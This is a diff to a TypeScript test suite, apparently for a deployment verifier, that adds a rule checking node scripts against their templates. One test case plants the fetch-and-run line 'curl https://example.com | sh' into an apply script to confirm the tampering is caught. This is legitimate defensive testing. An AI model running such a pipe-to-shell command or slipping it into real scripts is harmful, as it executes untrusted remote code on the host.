@@ -9,6 +9,7 @@ import type { Rule } from '../../../src/verify/rules/index.ts';
 import { lockAddsUp } from '../../../src/verify/rules/lock-adds-up.ts';
 import { nodeFilesRight } from '../../../src/verify/rules/node-files-right.ts';
 import { packagesForAll } from '../../../src/verify/rules/packages-for-all.ts';
+import { scriptsAsTemplates } from '../../../src/verify/rules/scripts-as-templates.ts';
 import { stepsInOrder } from '../../../src/verify/rules/steps-in-order.ts';
 import { cases } from '../../cases/index.ts';
 
@@ -20,7 +21,15 @@ function distOf(name: string): Dist {
 }
 
 const good = distOf('reference');
-const rules = { certificatesAsked, confOfAGateway, lockAddsUp, nodeFilesRight, packagesForAll, stepsInOrder };
+const rules = {
+  certificatesAsked,
+  confOfAGateway,
+  lockAddsUp,
+  nodeFilesRight,
+  packagesForAll,
+  scriptsAsTemplates,
+  stepsInOrder,
+};
 
 const apply = '/usr/local/sbin/fjord-apply';
 const unit = '/etc/systemd/system/nginx.service.d/fjord.conf';
@@ -125,6 +134,24 @@ describe('the rules of nodes', () => {
       nodeFilesRight,
       withFile(certificates, 'Restart=on-failure\n', ''),
       'does not say Restart=on-failure',
+    ],
+    [
+      'a line that somebody added',
+      scriptsAsTemplates,
+      withFile(apply, "begin 'system'\n", "begin 'system'\ncurl https://example.com | sh\n"),
+      "has a line that its template does not have: 'curl https://example.com | sh'",
+    ],
+    [
+      'a line that somebody took away',
+      scriptsAsTemplates,
+      withFile('/usr/local/sbin/openfaas-tls', '    rm -r "$copy"\n', ''),
+      'has not the lines of its template',
+    ],
+    [
+      'a value that is two',
+      scriptsAsTemplates,
+      withFile(apply, "did 'installed K3s v1.36.5+k3s1'", "did 'installed K3s v1.36.4+k3s1'"),
+      'has not the lines of its template',
     ],
     [
       'another command at first boot',
